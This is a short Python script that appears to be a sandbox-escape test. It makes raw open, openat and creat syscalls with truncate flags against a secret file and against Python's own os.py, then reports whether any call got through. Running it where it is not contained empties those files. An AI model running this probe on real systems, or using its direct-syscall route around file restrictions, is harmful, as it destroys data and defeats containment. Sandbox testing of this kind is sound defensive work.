# escape: a file outside is emptied by opening it to read
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == "x86_64"
TRUNC, CREAT, NEITHER = 0o1000, 0o100, 3
library = os.__file__
hits = []
for path in (SECRET, library):
    name = ctypes.c_char_p(path.encode())
    for flags in (TRUNC, TRUNC | NEITHER, TRUNC | CREAT, TRUNC | 1, TRUNC | 2, TRUNC | 0o2000, TRUNC | 0o10000000, TRUNC | 0o4000):
        calls = [(257 if x86 else 56, -100, name, flags, 0o600)] + ([(2, name, flags, 0o600)] if x86 else [])
        for number, *arguments in calls:
            fd = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
            if fd >= 0 and not flags & 0o10000000:
                hits.append((path, oct(flags)))
    if x86 and libc.syscall(ctypes.c_long(85), name, ctypes.c_long(0o600)) >= 0:
        hits.append((path, "creat"))
print("ESCAPED:", hits) if hits else print("contained if the caller finds the file whole")
